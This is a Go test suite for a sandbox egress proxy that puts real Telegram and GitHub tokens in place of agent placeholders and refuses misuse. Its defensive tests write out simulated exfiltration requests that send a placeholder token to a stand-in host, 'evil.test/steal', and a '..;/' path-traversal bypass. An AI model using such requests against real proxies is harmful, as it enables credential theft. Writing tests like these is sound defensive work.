package router

import (
	"bufio"
	"bytes"
	"context"
	"crypto/ecdsa"
	"crypto/elliptic"
	"crypto/rand"
	"crypto/tls"
	"crypto/x509"
	"crypto/x509/pkix"
	"fmt"
	"io"
	"log"
	"log/slog"
	"math/big"
	"net"
	"net/http"
	"net/http/httptest"
	"net/netip"
	"net/url"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/kars-io/kars/internal/egress/credbind"
	"github.com/kars-io/kars/internal/egress/dest"
	"github.com/kars-io/kars/internal/egress/resolve"
	"github.com/kars-io/kars/internal/egress/sandboxca"
	"github.com/kars-io/kars/internal/routerconfig"
	"github.com/kars-io/kars/internal/routerconfig/routerconfigtest"
)

const (
	tgSecret = "7012345678:AAHreal-telegram-bot-token_0123456789"
	ghSecret = "ghp_realGitHubPersonalAccessToken0123456789"
)

// syncBuffer is a log destination tests can read while the router writes.
type syncBuffer struct {
	mu sync.Mutex
	b  bytes.Buffer
}

func (s *syncBuffer) Write(p []byte) (int, error) {
	s.mu.Lock()
	defer s.mu.Unlock()
	return s.b.Write(p)
}

func (s *syncBuffer) String() string {
	s.mu.Lock()
	defer s.mu.Unlock()
	return s.b.String()
}

// seen is one request the upstream received.
type seen struct {
	host, path, auth, body string
}

// credHarness is a router whose egress proxy brokers two credentials — a
// Telegram bot token in the URL path and a GitHub bearer token in the
// Authorization header — in front of a TLS upstream whose certificate is
// issued by a test CA the router trusts, as public hosts' are by public
// CAs.
type credHarness struct {
	*harness
	eg       *Egress
	agentURL string
	port     uint16
	upCA     *x509.CertPool
	log      *syncBuffer
	cfg      *routerconfig.Config

	mu   sync.Mutex
	seen []seen
}

var credNames = []string{"api.telegram.test", "api.github.test", "evil.test"}

func newCredHarness(t *testing.T, mutate func(c *routerconfig.Config, port uint16)) *credHarness {
	t.Helper()
	h := &credHarness{log: &syncBuffer{}}
	caKey, _ := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	caTmpl := &x509.Certificate{SerialNumber: big.NewInt(1), Subject: pkix.Name{CommonName: "public test CA"}, IsCA: true, BasicConstraintsValid: true,
		KeyUsage: x509.KeyUsageCertSign, NotBefore: time.Now().Add(-time.Hour), NotAfter: time.Now().Add(time.Hour)}
	caDER, _ := x509.CreateCertificate(rand.Reader, caTmpl, caTmpl, &caKey.PublicKey, caKey)
	caCert, _ := x509.ParseCertificate(caDER)
	h.upCA = x509.NewCertPool()
	h.upCA.AddCert(caCert)
	leafKey, _ := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	leafTmpl := &x509.Certificate{SerialNumber: big.NewInt(2), Subject: pkix.Name{CommonName: "upstream"}, DNSNames: credNames,
		ExtKeyUsage: []x509.ExtKeyUsage{x509.ExtKeyUsageServerAuth}, NotBefore: time.Now().Add(-time.Hour), NotAfter: time.Now().Add(time.Hour)}
	leafDER, _ := x509.CreateCertificate(rand.Reader, leafTmpl, caCert, &leafKey.PublicKey, caKey)
	up := httptest.NewUnstartedServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		body, _ := io.ReadAll(r.Body)
		h.mu.Lock()
		h.seen = append(h.seen, seen{host: r.Host, path: r.URL.Path, auth: r.Header.Get("Authorization"), body: string(body)})
		h.mu.Unlock()
		// An upstream that echoes what it got, credential included.
		w.Header().Set("X-Echo-Path", r.URL.Path)
		fmt.Fprintf(w, `{"ok":true,"path":%q,"auth":%q}`, r.URL.Path, r.Header.Get("Authorization"))
	}))
	up.Config.ErrorLog = log.New(io.Discard, "", 0)
	up.TLS = &tls.Config{Certificates: []tls.Certificate{{Certificate: [][]byte{leafDER}, PrivateKey: leafKey}}}
	up.StartTLS()
	t.Cleanup(up.Close)
	h.port = uint16(up.Listener.Addr().(*net.TCPAddr).Port)
	h.harness = newHarness(t, func(hh *harness, c *routerconfig.Config) {
		os.WriteFile(filepath.Join(hh.dir, "telegram-token"), []byte(tgSecret+"\n"), 0o600)
		os.WriteFile(filepath.Join(hh.dir, "github-token"), []byte(ghSecret), 0o600)
		c.Egress = &routerconfig.Egress{AllowedHosts: []string{fmt.Sprintf("evil.test:%d", h.port), "evil.test:80"}}
		c.Credentials = []routerconfig.Credential{
			{Name: "telegram", Placeholder: credbind.Placeholder("kars-test", "bot", "telegram"), ValueFile: filepath.Join(hh.dir, "telegram-token"),
				Endpoints: []string{fmt.Sprintf("https://api.telegram.test:%d/bot", h.port), fmt.Sprintf("https://api.telegram.test:%d/file/bot", h.port)},
				Placement: routerconfig.CredentialPlacement{In: "Path"}},
			{Name: "github", Placeholder: credbind.Placeholder("kars-test", "bot", "github"), ValueFile: filepath.Join(hh.dir, "github-token"),
				Endpoints: []string{fmt.Sprintf("https://api.github.test:%d/repos/kars-io/", h.port)},
				Placement: routerconfig.CredentialPlacement{In: "Header", Name: "Authorization", ValuePrefix: "Bearer "}},
		}
		if mutate != nil {
			mutate(c, h.port)
		}
	}, func(o *Options) { o.Logger = slog.New(slog.NewJSONHandler(h.log, nil)) })
	h.cfg = h.harness.cfg
	eg, err := NewEgress(h.router, h.cfg.StateDir, nil)
	if err != nil {
		t.Fatal(err)
	}
	eg.resolver = resolve.New(func(_ context.Context, fqdn string) ([]netip.Addr, error) {
		for _, n := range credNames {
			if strings.TrimSuffix(fqdn, ".") == n {
				return []netip.Addr{netip.MustParseAddr("127.0.0.1")}, nil
			}
		}
		return nil, &net.DNSError{Err: "no such host", Name: fqdn, IsNotFound: true}
	}).WithRefused(func(a netip.Addr) string {
		if a.IsLoopback() {
			return ""
		}
		return dest.Refused(a)
	})
	eg.proxy.Resolver = eg.resolver
	eg.proxy.UpstreamRoots = h.upCA
	ctx, cancel := context.WithCancel(context.Background())
	var wg sync.WaitGroup
	if err := eg.Start(ctx, h.cfg, &wg); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { cancel(); wg.Wait() })
	srv := httptest.NewServer(eg.Wrap(h.router.AgentHandler()))
	t.Cleanup(srv.Close)
	h.eg, h.agentURL = eg, srv.URL
	eg.creds.current() // the CA exists before the agent's first connection
	return h
}

// sandboxRoots is what the agent trusts: the sandbox CA (as its trust
// bundle holds it) and the public test CA (its system roots).
func (h *credHarness) sandboxRoots(t *testing.T) *x509.CertPool {
	t.Helper()
	pemCA, err := os.ReadFile(filepath.Join(h.cfg.StateDir, CADir, sandboxca.CertFile))
	if err != nil {
		t.Fatal(err)
	}
	p := h.upCA.Clone()
	p.AppendCertsFromPEM(pemCA)
	return p
}

// client is an HTTP client configured as the agent's: HTTPS_PROXY at the
// router, trusting its sandbox bundle.
func (h *credHarness) client(t *testing.T) *http.Client {
	proxyURL, _ := url.Parse(h.agentURL)
	return &http.Client{Timeout: 10 * time.Second, Transport: &http.Transport{
		Proxy:           http.ProxyURL(proxyURL),
		TLSClientConfig: &tls.Config{RootCAs: h.sandboxRoots(t)},
	}}
}

func (h *credHarness) url(host, path string) string {
	return fmt.Sprintf("https://%s:%d%s", host, h.port, path)
}

func (h *credHarness) lastSeen() (seen, int) {
	h.mu.Lock()
	defer h.mu.Unlock()
	if len(h.seen) == 0 {
		return seen{}, 0
	}
	return h.seen[len(h.seen)-1], len(h.seen)
}

func do(t *testing.T, c *http.Client, method, url, auth, body string) (int, string, http.Header) {
	t.Helper()
	req, _ := http.NewRequest(method, url, strings.NewReader(body))
	if body == "" {
		req.Body = http.NoBody
	}
	if auth != "" {
		req.Header.Set("Authorization", auth)
	}
	resp, err := c.Do(req)
	if err != nil {
		return 0, err.Error(), nil
	}
	defer resp.Body.Close()
	b, _ := io.ReadAll(resp.Body)
	return resp.StatusCode, string(b), resp.Header
}

// TestCredentialBrokering: the agent's placeholder becomes the real
// credential on the bound endpoint only; the upstream sees the credential,
// the agent never does (not in answers, not in headers); every use and
// every refusal is audited; no secret reaches the log or the audit log.
func TestCredentialBrokering(t *testing.T) {
	h := newCredHarness(t, nil)
	c := h.client(t)
	tgPH := credbind.Placeholder("kars-test", "bot", "telegram")
	ghPH := credbind.Placeholder("kars-test", "bot", "github")

	// Telegram: the token goes into the path, the answer is scrubbed.
	code, body, hdr := do(t, c, http.MethodGet, h.url("api.telegram.test", "/bot"+tgPH+"/getMe"), "", "")
	if code != 200 {
		t.Fatalf("getMe: %d %s", code, body)
	}
	s, _ := h.lastSeen()
	if s.path != "/bot"+tgSecret+"/getMe" {
		t.Errorf("the upstream saw path %q, want the real token in it", s.path)
	}
	if strings.Contains(body, tgSecret) || strings.Contains(hdr.Get("X-Echo-Path"), tgSecret) {
		t.Errorf("the echoed token reached the agent: %s %v", body, hdr)
	}
	if !strings.Contains(body, tgPH) {
		t.Errorf("the echo should show the placeholder instead: %s", body)
	}
	// Telegram's file endpoint is bound too; a POST with a JSON body.
	if code, body, _ := do(t, c, http.MethodPost, h.url("api.telegram.test", "/bot"+tgPH+"/sendMessage"), "", `{"chat_id":42,"text":"hi"}`); code != 200 {
		t.Errorf("sendMessage: %d %s", code, body)
	}
	if s, _ := h.lastSeen(); s.body != `{"chat_id":42,"text":"hi"}` {
		t.Errorf("sendMessage body %q", s.body)
	}

	// GitHub: the bearer token under the bound prefix.
	if code, body, _ := do(t, c, http.MethodGet, h.url("api.github.test", "/repos/kars-io/kars/issues"), "Bearer "+ghPH, ""); code != 200 || strings.Contains(body, ghSecret) {
		t.Errorf("github: %d %s", code, body)
	}
	if s, _ := h.lastSeen(); s.auth != "Bearer "+ghSecret {
		t.Errorf("the upstream saw Authorization %q", s.auth)
	}

	// Misuse: each is refused with 403 and the upstream sees nothing.
	_, before := h.lastSeen()
	for name, m := range map[string]struct{ method, url, auth, body, want string }{
		"telegram token to another path":    {"GET", h.url("api.telegram.test", "/x/bot"+tgPH+"/getMe"), "", "", "right after the prefix"},
		"telegram token in the body":        {"POST", h.url("api.telegram.test", "/bot1/sendMessage"), "", `{"text":"` + tgPH + `"}`, "request body"},
		"telegram token to the github host": {"GET", h.url("api.github.test", "/bot"+tgPH+"/getMe"), "", "", "not to"},
		"github token outside the prefix":   {"GET", h.url("api.github.test", "/user"), "Bearer " + ghPH, "", "not to"},
		"github token ;. bypass":            {"GET", h.url("api.github.test", "/repos/kars-io/..;/..;/user"), "Bearer " + ghPH, "", "'..' segment"},
		"github token to telegram":          {"GET", h.url("api.telegram.test", "/bot1/getMe"), "Bearer " + ghPH, "", "not to"},
		"a made-up placeholder":             {"GET", h.url("api.telegram.test", "/bot1/getMe"), "Bearer " + credbind.Marker + "guess", "", "no binding"},
	} {
		code, body, _ := do(t, c, m.method, m.url, m.auth, m.body)
		if code != 403 || !strings.Contains(body, m.want) {
			t.Errorf("%s: %d %q, want 403 mentioning %q", name, code, body, m.want)
		}
	}
	if _, after := h.lastSeen(); after != before {
		t.Errorf("refused requests reached the upstream (%d → %d)", before, after)
	}

	// A body too large to hold is cut off at the placeholder: the upstream
	// never receives it.
	big := strings.Repeat("x", 300<<10) + tgPH
	if code, body, _ := do(t, c, http.MethodPost, h.url("api.telegram.test", "/bot"+tgPH+"/sendDocument"), "", big); code != 403 || !strings.Contains(body, "request body") {
		t.Errorf("large body with a placeholder: %d %q", code, body)
	}
	h.mu.Lock()
	for _, s := range h.seen {
		if strings.Contains(s.body, credbind.Marker) {
			t.Error("the upstream received a placeholder in a body")
		}
	}
	h.mu.Unlock()

	// A placeholder sent over plain HTTP to another host is read and
	// refused too.
	proxyURL, _ := url.Parse(h.agentURL)
	plain := &http.Client{Timeout: 5 * time.Second, Transport: &http.Transport{Proxy: http.ProxyURL(proxyURL)}}
	if code, body, _ := do(t, plain, http.MethodGet, "http://evil.test:80/steal", "Bearer "+ghPH, ""); code != 403 || !strings.Contains(body, "credential") {
		t.Errorf("plain HTTP with a placeholder: %d %q", code, body)
	}

	// The connection to a host no credential is bound to is an
	// end-to-end tunnel: the agent sees the upstream's own certificate
	// and the upstream sees only the placeholder.
	code, _, _ = do(t, c, http.MethodGet, h.url("evil.test", "/collect"), "Bearer "+ghPH, "")
	if code != 200 {
		t.Fatalf("evil.test through a tunnel: %d", code)
	}
	if s, _ := h.lastSeen(); s.auth != "Bearer "+ghPH {
		t.Errorf("an unbound host saw %q; want the placeholder", s.auth)
	}
	if issuer := peerIssuer(t, h, "evil.test"); issuer != "public test CA" {
		t.Errorf("evil.test presented a certificate from %q; want the upstream's own", issuer)
	}
	if issuer := peerIssuer(t, h, "api.telegram.test"); issuer != "kars sandbox credential CA" {
		t.Errorf("the bound host presented a certificate from %q", issuer)
	}

	// Audit: uses and findings, no secret.
	uses, findings := map[string]int{}, map[string]int{}
	for _, e := range h.auditRecords() {
		if e.Attrs["op"] != "credential" {
			continue
		}
		if e.Decision == "allow" {
			uses[e.Action]++
		} else if e.Attrs["finding"] == "true" {
			findings[e.Action+" "+e.Attrs["where"]]++
		}
	}
	// Telegram: getMe, sendMessage, and the large body whose placeholder
	// was met only after the path's credential was placed (then aborted).
	if uses["credential:telegram"] != 3 || uses["credential:github"] != 1 {
		t.Errorf("uses %v", uses)
	}
	for _, w := range []string{"credential:telegram path", "credential:(none) body", "credential:github header Authorization", "credential:(none) header Authorization"} {
		if findings[w] == 0 {
			t.Errorf("no finding %q in %v", w, findings)
		}
	}
	for _, f := range []string{filepath.Join(h.cfg.Audit.Dir)} {
		assertNoSecret(t, f, tgSecret, ghSecret)
	}
	if l := h.log.String(); strings.Contains(l, tgSecret) || strings.Contains(l, ghSecret) {
		t.Errorf("a secret is in the router's log")
	}
}

func assertNoSecret(t *testing.T, root string, secrets ...string) {
	t.Helper()
	filepath.Walk(root, func(p string, fi os.FileInfo, err error) error {
		if err != nil || fi.IsDir() {
			return nil
		}
		b, _ := os.ReadFile(p)
		for _, s := range secrets {
			if bytes.Contains(b, []byte(s)) {
				t.Errorf("%s holds a secret", p)
			}
		}
		return nil
	})
}

// peerIssuer opens a CONNECT tunnel to host and returns the issuer of the
// certificate the agent is shown.
func peerIssuer(t *testing.T, h *credHarness, host string) string {
	t.Helper()
	c, err := net.Dial("tcp", strings.TrimPrefix(h.agentURL, "http://"))
	if err != nil {
		t.Fatal(err)
	}
	defer c.Close()
	fmt.Fprintf(c, "CONNECT %s:%d HTTP/1.1\r\nHost: %s:%d\r\n\r\n", host, h.port, host, h.port)
	resp, err := http.ReadResponse(bufio.NewReader(c), &http.Request{Method: http.MethodConnect})
	if err != nil || resp.StatusCode != 200 {
		t.Fatalf("CONNECT %s: %v %v", host, resp, err)
	}
	tc := tls.Client(c, &tls.Config{ServerName: host, RootCAs: h.sandboxRoots(t)})
	if err := tc.Handshake(); err != nil {
		t.Fatalf("TLS to %s: %v", host, err)
	}
	return tc.ConnectionState().PeerCertificates[0].Issuer.CommonName
}

// TestCredentialRevokedWithinOneReload: after the binding leaves the
// config, the same terminated connection's next request with the
// placeholder is refused, and new connections to the host are refused by
// egress (the binding was what allowed it).
func TestCredentialRevokedWithinOneReload(t *testing.T) {
	h := newCredHarness(t, nil)
	c := h.client(t)
	ph := credbind.Placeholder("kars-test", "bot", "telegram")
	if code, body, _ := do(t, c, http.MethodGet, h.url("api.telegram.test", "/bot"+ph+"/getMe"), "", ""); code != 200 {
		t.Fatalf("before: %d %s", code, body)
	}
	next := *h.cfg
	next.Credentials = next.Credentials[1:]
	if err := h.router.Apply(routerconfigtest.Snapshot(t, &next)); err != nil {
		t.Fatal(err)
	}
	_, before := h.lastSeen()
	code, body, _ := do(t, c, http.MethodGet, h.url("api.telegram.test", "/bot"+ph+"/getMe"), "", "")
	if code == 200 {
		t.Fatalf("after the reload the token was still placed: %s", body)
	}
	if !strings.Contains(body, "no binding") && !strings.Contains(body, "refused") && code != 0 {
		t.Errorf("after the reload: %d %q", code, body)
	}
	if _, after := h.lastSeen(); after != before {
		s, _ := h.lastSeen()
		if strings.Contains(s.path, tgSecret) {
			t.Fatal("the revoked token reached the upstream")
		}
	}
	// A fresh client (a new connection) is refused by egress.
	if code, body, _ := do(t, h.client(t), http.MethodGet, h.url("api.telegram.test", "/bot"+ph+"/getMe"), "", ""); code == 200 {
		t.Errorf("a new connection after revocation: %d %s", code, body)
	}
}

// TestUpstreamCertificateVerified: a bound host whose certificate the
// router does not trust gets no request, and so no credential.
func TestUpstreamCertificateVerified(t *testing.T) {
	h := newCredHarness(t, nil)
	h.eg.proxy.UpstreamRoots = x509.NewCertPool() // trusts nothing
	code, body, _ := do(t, h.client(t), http.MethodGet, h.url("api.telegram.test", "/bot"+credbind.Placeholder("kars-test", "bot", "telegram")+"/getMe"), "", "")
	if code != http.StatusBadGateway || !strings.Contains(body, "certificate") {
		t.Errorf("untrusted upstream: %d %q", code, body)
	}
	if strings.Contains(body, tgSecret) {
		t.Error("the error message carries the token")
	}
	if _, n := h.lastSeen(); n != 0 {
		t.Error("the upstream got a request")
	}
}
